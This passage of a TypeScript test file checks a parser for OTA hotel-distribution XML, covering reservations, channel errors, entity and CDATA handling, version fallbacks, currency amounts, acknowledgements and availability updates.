		expect(reservationsOf(xml)).toEqual([
			{ channelReservationId: 'R-9', version: expect.stringMatching(/^sha256:/), action: 'cancel', roomStays: [], guest: { name: '' }, comments: [], specialRequests: [] },
		]);
	});

	it('reports a channel’s Errors instead of pretending there are no reservations', () => {
		const xml = `<OTA_ResRetrieveRS ${OTA} Version="1.0"><Errors><Error Type="4" Code="497">Authorization failed</Error></Errors></OTA_ResRetrieveRS>`;
		expectOtaRefused(() => parseReservations(xml), 'invalid_content', /OTA_ResRetrieveRS\/Errors: the channel answered with errors: Authorization failed/);
	});

	it('decodes character references, keeps CDATA literal, and ignores namespace prefixes', () => {
		const xml = `<ota:OTA_HotelResNotifRQ xmlns:ota="http://www.opentravel.org/OTA/2003/05" Version="1.0"><ota:HotelReservations><ota:HotelReservation>
			<ota:UniqueID Type="14" ID="R&#45;&#x31;"/>${stay('<TimeSpan Start="2026-06-01" End="2026-06-02"/>').replace(/<(\/?)(\w)/g, '<$1ota:$2')}
			<ota:ResGuests><ota:ResGuest><ota:Profiles><ota:ProfileInfo><ota:Profile><ota:Customer><ota:PersonName><ota:GivenName>Ren&#233;e</ota:GivenName><ota:Surname>D&apos;Arc &amp; Co &#x1F3E8;</ota:Surname></ota:PersonName></ota:Customer></ota:Profile></ota:ProfileInfo></ota:Profiles></ota:ResGuest></ota:ResGuests>
			<ota:ResGlobalInfo><ota:Comments><ota:Comment><ota:Text><![CDATA[Literal &amp; <tags>]]></ota:Text></ota:Comment></ota:Comments></ota:ResGlobalInfo>
		</ota:HotelReservation></ota:HotelReservations></ota:OTA_HotelResNotifRQ>`;
		expect(reservationsOf(xml)[0]).toMatchObject({ channelReservationId: 'R-1', guest: { name: "Renée D'Arc & Co 🏨" }, comments: ['Literal &amp; <tags>'] });
	});
});

describe('versions', () => {
	const reservation = (attributes: string, uniqueId = '<UniqueID Type="14" ID="R-1"/>', ids = '') =>
		resNotif(`<HotelReservation ${attributes}>${uniqueId}${stay('<TimeSpan Start="2026-06-01" End="2026-06-02"/>')}<ResGlobalInfo>${ids}</ResGlobalInfo></HotelReservation>`);
	const version = (xml: string) => reservationsOf(xml)[0].version;

	it('prefers UniqueID/@Instance, then LastModifyDateTime, CreateDateTime, ResID_Date', () => {
		const dates = 'CreateDateTime="2026-05-01T10:00:00Z" LastModifyDateTime="2026-05-02T10:00:00Z"';
		expect(version(reservation(dates, '<UniqueID Type="14" ID="R-1" Instance="7"/>'))).toBe('7');
		expect(version(reservation(dates))).toBe('2026-05-02T10:00:00Z');
		expect(version(reservation('CreateDateTime="2026-05-01T10:00:00Z"'))).toBe('2026-05-01T10:00:00Z');
		const resIds = '<HotelReservationIDs><HotelReservationID ResID_Type="14" ResID_Value="R-1" ResID_Date="2026-04-30T09:00:00Z"/></HotelReservationIDs>';
		expect(version(reservation('', undefined, resIds))).toBe('2026-04-30T09:00:00Z');
	});

	it('falls back to a content hash: the same for a redelivery, different after a change', () => {
		const first = version(reservation(''));
		expect(first).toMatch(/^sha256:[0-9a-f]{16}$/);
		expect(version(reservation(''))).toBe(first);
		expect(version(reservation('', '<UniqueID Type="14" ID="R-2"/>'))).not.toBe(first);
	});
});

describe('amounts', () => {
	it('follows the OTA meaning of DecimalPlaces', () => {
		expect(parseAmount('12345', 2, 2, 'x')).toBe(12345); // implied decimals: 123.45
		expect(parseAmount('123.45', 2, 2, 'x')).toBe(12345); // decimal point: major units
		expect(parseAmount('120', undefined, 2, 'x')).toBe(12000); // no DecimalPlaces: major units
		expect(parseAmount('120.5', undefined, 2, 'x')).toBe(12050);
		expect(parseAmount('18000', 0, 0, 'x')).toBe(18000); // JPY
		expect(parseAmount('133505', 3, 2, 'x')).toBe(13351); // sub-cent rounded half up, not refused
		expect(parseAmount('0.005', 3, 3, 'x')).toBe(5);
		expect(() => parseAmount('1e3', undefined, 2, 'x')).toThrow(OtaMessageError);
	});

	it('reads a rate push in either amount form', () => {
		const rate = (amount: string) =>
			`<OTA_HotelRateAmountNotifRQ ${OTA} Version="1.0"><RateAmountMessages HotelCode="H1"><RateAmountMessage><StatusApplicationControl Start="2026-06-01" End="2026-06-07" InvTypeCode="DBL" RatePlanCode="BAR"/><Rates><Rate><BaseByGuestAmts><BaseByGuestAmt NumberOfGuests="1" AmountAfterTax="90.00" CurrencyCode="EUR"/>${amount}</BaseByGuestAmts></Rate></Rates></RateAmountMessage></RateAmountMessages></OTA_HotelRateAmountNotifRQ>`;
		const expected = { roomType: 'DBL', ratePlan: 'BAR', start: '2026-06-01', end: '2026-06-07', amount: 11000, currency: 'EUR', decimals: 2 };
		expect(parseHotelRateAmountNotif(rate('<BaseByGuestAmt NumberOfGuests="2" AmountAfterTax="11000" CurrencyCode="eur" DecimalPlaces="2"/>')).rates).toEqual([expected]);
		expect(parseHotelRateAmountNotif(rate('<BaseByGuestAmt NumberOfGuests="2" AmountAfterTax="110.00" CurrencyCode="EUR" DecimalPlaces="2"/>')).rates).toEqual([expected]);
	});
});

describe('acknowledgements', () => {
	it('reads Success, Warnings and Errors of any response', () => {
		expect(parseAckResponse(`<OTA_HotelAvailNotifRS ${OTA} Version="1.0" EchoToken="e1"><Success/><Warnings><Warning Type="10" Code="321">Past dates ignored</Warning></Warnings></OTA_HotelAvailNotifRS>`)).toEqual({
			root: 'OTA_HotelAvailNotifRS',
			echoToken: 'e1',
			ok: true,
			errors: [],
			warnings: [{ message: 'Past dates ignored', code: '321', type: '10' }],
			reservations: [],
		});
		expect(parseAckResponse(`<OTA_HotelRateAmountNotifRS ${OTA} Version="1.0"><Errors><Error Type="3" Code="402" ShortText="Invalid room type"/><Error Type="12">Internal</Error></Errors></OTA_HotelRateAmountNotifRS>`)).toMatchObject({
			ok: false,
			errors: [
				{ message: 'Invalid room type', code: '402', type: '3' },
				{ message: 'Internal', type: '12' },
			],
		});
		// No Success element is not a success, even without Errors.
		expect(parseAckResponse(`<OTA_NotifReportRS ${OTA} Version="1.0"/>`).ok).toBe(false);
	});

	it('reads the confirmation numbers a channel-facing answer carries', () => {
		const xml = `<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><OTA_HotelResNotifRS ${OTA} Version="1.0"><Success/><HotelReservations><HotelReservation><UniqueID Type="14" ID="4705913842"/><ResGlobalInfo><HotelReservationIDs><HotelReservationID ResID_Type="14" ResID_Value="4705913842"/><HotelReservationID ResID_Type="10" ResID_Value="PMS-1"/></HotelReservationIDs></ResGlobalInfo></HotelReservation></HotelReservations></OTA_HotelResNotifRS></soap:Body></soap:Envelope>`;
		expect(parseAckResponse(xml).reservations).toEqual([{ channelReservationId: '4705913842', confirmationNumber: 'PMS-1' }]);
	});

	it('reads a pushed availability update back (the test OTA server side)', () => {
		const xml = `<OTA_HotelAvailNotifRQ ${OTA} Version="1.0"><AvailStatusMessages HotelCode="H1"><AvailStatusMessage BookingLimit="3"><StatusApplicationControl Start="2026-06-01" End="2026-06-30" InvCode="DBL"/><LengthsOfStay><LengthOfStay Time="1" TimeUnit="Week" MinMaxMessageType="SetMinLOS"/><LengthOfStay Time="0" MinMaxMessageType="SetMaxLOS"/></LengthsOfStay><RestrictionStatus Status="ClosedOnArrival"/></AvailStatusMessage></AvailStatusMessages></OTA_HotelAvailNotifRQ>`;
		expect(parseHotelAvailNotif(xml)).toMatchObject({
			hotelCode: 'H1',
			updates: [{ roomType: 'DBL', start: '2026-06-01', end: '2026-06-30', bookingLimit: 3, minLos: 7, maxLos: null, closedToArrival: true }],
		});
		expectOtaRefused(
			() => parseHotelAvailNotif(`<OTA_HotelAvailNotifRQ ${OTA} Version="1.0"><AvailStatusMessages><AvailStatusMessage BookingLimit="3"/><AvailStatusMessage/></AvailStatusMessages></OTA_HotelAvailNotifRQ>`),
			'invalid_content',
			/^AvailStatusMessage\[1\]: missing StatusApplicationControl$/,
		);
	});
});
